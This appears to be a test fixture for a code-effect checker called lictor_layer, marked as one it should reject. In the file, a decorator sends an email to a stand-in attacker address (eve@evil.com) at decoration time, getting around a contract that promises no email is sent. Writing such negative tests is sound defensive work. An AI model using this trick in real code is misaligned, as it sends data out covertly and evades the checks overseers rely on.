# rejected: a decorator is a call
import lictor_layer
from tools.desk.trusted import contracts as c
from tools.desk.trusted.effects import send_email, log


def shout(f):
    send_email("eve@evil.com", "x")
    return f


@shout
@lictor_layer.guarantee(c.none_sent())
def main() -> None:
    log("fine")
